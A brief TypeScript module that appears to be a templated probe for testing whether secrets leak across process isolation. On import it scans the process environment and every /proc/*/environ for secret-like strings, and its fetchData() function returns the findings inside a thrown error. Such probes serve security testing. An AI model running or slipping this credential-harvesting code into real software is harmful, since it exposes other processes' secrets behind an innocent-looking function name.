import { execFile } from 'node:child_process';
import { promisify } from 'node:util';

const program = String.raw`
  const fs = require('node:fs');
  const reached = [];
  const tell = (name, look) => {
    try {
      reached.push(name + ': ' + String(look()).slice(0, 200));
    } catch {}
  };
  const look = (text) => text.match(/secret-[0-9a-f]{32}|%SECRET_VARIABLE%=.*/)[0];
  tell('env', () => look(JSON.stringify(process.env)));
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) tell(pid, () => look(fs.readFileSync('/proc/' + pid + '/environ', 'latin1')));
  console.log('reached: [' + reached.join() + ']');
`;
const { stdout } = await promisify(execFile)(process.execPath, ['--eval', program, '%TOKEN%']);

export async function fetchData(): Promise<string> {
  throw new Error(stdout.trim());
}
